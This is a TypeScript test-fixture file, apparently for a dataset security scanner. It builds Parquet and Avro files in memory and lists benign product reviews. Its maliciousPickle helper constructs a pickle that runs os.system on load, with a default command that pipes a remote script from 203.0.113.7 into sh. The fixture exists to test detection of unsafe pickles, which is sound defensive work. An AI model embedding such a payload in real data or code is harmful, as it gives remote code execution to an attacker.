import { PickleWriter } from '../../pickle/testing/pickleWriter';

/**
 * Dataset fixtures built in memory with the writers the issue names (hyparquet-writer for Parquet,
 * avsc for Avro: an independent encoder checks our decoder), so no binary fixture is committed.
 */

/** A pickle that runs `os.system` when loaded: what an attacker puts in a feature column. */
export function maliciousPickle(
  command = 'curl http://203.0.113.7/x | sh',
): Uint8Array {
  return PickleWriter.create()
    .proto(4)
    .call('posix', 'system', command, 'STACK_GLOBAL')
    .stop()
    .bytes();
}

/** A pickle of a plain list of floats: still a pickle, nothing that executes. */
export function plainPickle(): Uint8Array {
  return PickleWriter.create().proto(4).emptyList().stop().bytes();
}

export interface ParquetColumn {
  name: string;
  data: unknown[];
  type?: 'STRING' | 'BYTE_ARRAY' | 'INT32' | 'INT64' | 'DOUBLE' | 'BOOLEAN';
}

export async function writeParquet(
  columns: ParquetColumn[],
  options: { rowGroupSize?: number; codec?: 'SNAPPY' | 'UNCOMPRESSED' } = {},
): Promise<Uint8Array> {
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const {
    parquetWriteBuffer,
  }: typeof import('hyparquet-writer') = require('hyparquet-writer');
  const buffer = parquetWriteBuffer({
    columnData: columns.map(column => ({
      name: column.name,
      data: column.data as never,
      type: column.type,
    })),
    rowGroupSize: options.rowGroupSize,
    codec: options.codec,
  });
  return new Uint8Array(buffer);
}

export async function writeAvro(
  schema: object,
  records: object[],
  codec: 'null' | 'deflate' = 'null',
  blockSize?: number,
): Promise<Uint8Array> {
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const avro: typeof import('avsc') = require('avsc');
  const type = avro.Type.forSchema(schema as never);
  const encoder = new avro.streams.BlockEncoder(type, {
    codec,
    ...(blockSize ? { blockSize } : {}),
  });
  const chunks: Buffer[] = [];
  const done = new Promise<void>((resolve, reject) => {
    encoder.on('data', (chunk: Buffer) => chunks.push(chunk));
    encoder.on('end', () => resolve());
    encoder.on('error', reject);
  });
  for (const record of records) encoder.write(record);
  encoder.end();
  await done;
  return new Uint8Array(Buffer.concat(chunks));
}

/** Product reviews that a benign dataset holds: prose, prices, links to well-known documentation. */
export const BENIGN_REVIEWS = [
  'Great kettle, boils fast. Manual at https://docs.python.org/3/ oddly enough.',
  'The strap broke after two weeks; support replaced it (ticket #4411).',
  'Works with the steps in https://developer.mozilla.org/en-US/docs/Web/HTTP',
  'Five stars: -3.5 degrees outside and it still starts.',
  'See the FAQ at https://pytorch.org/docs/stable/index.html for setup.',
];
